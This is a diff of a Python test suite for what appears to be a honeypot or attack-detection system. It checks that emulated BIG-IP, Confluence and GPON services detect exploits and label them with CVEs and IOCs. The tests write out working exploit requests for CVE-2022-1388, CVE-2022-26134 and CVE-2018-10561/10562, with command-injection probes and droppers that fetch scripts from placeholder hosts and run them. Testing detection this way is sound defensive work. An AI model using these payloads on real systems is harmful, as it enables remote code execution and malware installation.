@@ -213,7 +213,8 @@ def test_exploit_is_answered_and_labelled(mix, cve: str, method: str, target: st
     event = event_for(mix, target)
     assert cve in event.cves, (event.rules, event.cves)
     assert "T1190" in event.techniques
-    assert event.persona == "vulnerable-mix"
+    # the event names the product persona the mix handed the path to, not the listener's
+    assert event.persona not in ("vulnerable-mix", "apache-ubuntu"), event.persona
     if payload is not None:
         assert ("url", payload, "download") in iocs(event), event.iocs
 
@@ -237,13 +238,18 @@ def test_bigip_version_then_icontrol_bash(mix) -> None:  # type: ignore[no-untyp
     page = curl(f"http://127.0.0.1:{port}/tmui/login.jsp")
     version = re.search(r"ver=(\d+\.\d+\.\d+)", page)
     assert version is not None and version.group(1).startswith("15.1.")  # 15.1.0-15.1.5: CVE-2022-1388
-    payload = json.dumps({"command": "run",
-                          "utilCmdArgs": "-c 'curl -s http://203.0.113.7/f5.sh -o /tmp/f5.sh; sh /tmp/f5.sh'"})
-    answer = curl("-X", "POST", "-H", "Connection: keep-alive, X-F5-Auth-Token", "-H", "X-F5-Auth-Token: a",
-                  "-H", "Authorization: Basic YWRtaW46", "-H", "Content-Type: application/json",
-                  "--data", payload, f"http://127.0.0.1:{port}/mgmt/tm/util/bash")
-    assert "uid=0(root)" in json.loads(answer)["commandResult"]
-    event = event_for(mix, "/mgmt/tm/util/bash")
+    def bash(args: str) -> str:
+        payload = json.dumps({"command": "run", "utilCmdArgs": args})
+        return curl("-X", "POST", "-H", "Connection: keep-alive, X-F5-Auth-Token", "-H", "X-F5-Auth-Token: a",
+                    "-H", "Authorization: Basic YWRtaW46", "-H", "Content-Type: application/json",
+                    "--data", payload, f"http://127.0.0.1:{port}/mgmt/tm/util/bash")
+    assert "uid=0(root)" in json.loads(bash("-c id"))["commandResult"]  # the attacker's check: root
+    json.loads(bash("-c 'curl -s http://203.0.113.7/f5.sh -o /tmp/f5.sh; sh /tmp/f5.sh'"))
+
+    def dropper(events: list[Event]) -> bool:
+        return any(isinstance(e.body, HttpRequest) and b"f5.sh" in e.body.body for e in events)
+    event = next(e for e in mix.sink.wait_for(dropper, timeout=30)
+                 if isinstance(e.body, HttpRequest) and b"f5.sh" in e.body.body)
     assert "CVE-2022-1388" in event.cves, (event.rules, event.cves)
     assert ("url", "http://203.0.113.7/f5.sh", "download") in iocs(event), event.iocs
 
@@ -272,11 +278,14 @@ def test_confluence_version_then_ognl_dropper(mix) -> None:  # type: ignore[no-u
     version = re.search(r'ajs-version-number" content="([\d.]+)"', page)
     assert version is not None and tuple(map(int, version.group(1).split("."))) < (7, 4, 17)
     ognl = ('${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('
-            '"curl -fsSL http://payload.example.net/cf.sh -o /tmp/cf.sh").getInputStream(),"utf-8"))'
+            '"COMMAND").getInputStream(),"utf-8"))'
             '.(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}')
     from urllib.parse import quote
-    status, head, _ = send(port, "GET", "/" + quote(ognl, safe="") + "/")
+    status, head, _ = send(port, "GET", "/" + quote(ognl.replace("COMMAND", "id"), safe="") + "/")
     assert status == 302 and "X-Cmd-Response: uid=" in head  # the attacker reads its command's output
+    dropper = ognl.replace("COMMAND", "curl -fsSL http://payload.example.net/cf.sh -o /tmp/cf.sh")
+    status, _, _ = send(port, "GET", "/" + quote(dropper, safe="") + "/")
+    assert status == 302
     event = event_for(mix, "payload.example.net")
     assert "CVE-2022-26134" in event.cves, (event.rules, event.cves)
     assert ("url", "http://payload.example.net/cf.sh", "download") in iocs(event), event.iocs
@@ -300,14 +309,21 @@ def test_gpon_diag_then_mozi_dropper(mix) -> None:  # type: ignore[no-untyped-de
     _, _, page = send(port, "GET", "/diag.html?images/")  # ?images skips the login (CVE-2018-10561)
     assert "GPON Home Gateway" in page and "dest_host" in page
     # %20 rather than the "+" many bots send: the IOC extractor does not yet read "+" as a space in forms
-    body = (b"XWebPageName=diag&diag_action=ping&wan_conlist=0"
-            b"&dest_host=`busybox%20wget%20http://203.0.113.20/Mozi.m%20-O%20/tmp/m;sh%20/tmp/m`;&ipv=0")
     form = {"Content-Type": "application/x-www-form-urlencoded"}
-    status, _, _ = send(port, "POST", "/GponForm/diag_Form?images/", form, body)
+    probe = b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=;id&ipv=0"
+    status, _, _ = send(port, "POST", "/GponForm/diag_Form?images/", form, probe)
     assert status == 200
     _, _, diag = send(port, "GET", "/diag.html?images/")
     assert "uid=0(root)" in diag  # the attacker's check that the injected command ran
-    event = event_for(mix, "/GponForm/diag_Form")
+    body = (b"XWebPageName=diag&diag_action=ping&wan_conlist=0"
+            b"&dest_host=`busybox%20wget%20http://203.0.113.20/Mozi.m%20-O%20/tmp/m;sh%20/tmp/m`;&ipv=0")
+    status, _, _ = send(port, "POST", "/GponForm/diag_Form?images/", form, body)
+    assert status == 200
+
+    def dropper(events: list[Event]) -> bool:
+        return any(isinstance(e.body, HttpRequest) and b"Mozi.m" in e.body.body for e in events)
+    event = next(e for e in mix.sink.wait_for(dropper, timeout=30)
+                 if isinstance(e.body, HttpRequest) and b"Mozi.m" in e.body.body)
     assert "CVE-2018-10562" in event.cves, (event.rules, event.cves)
     assert ("url", "http://203.0.113.20/Mozi.m", "download") in iocs(event), event.iocs
 
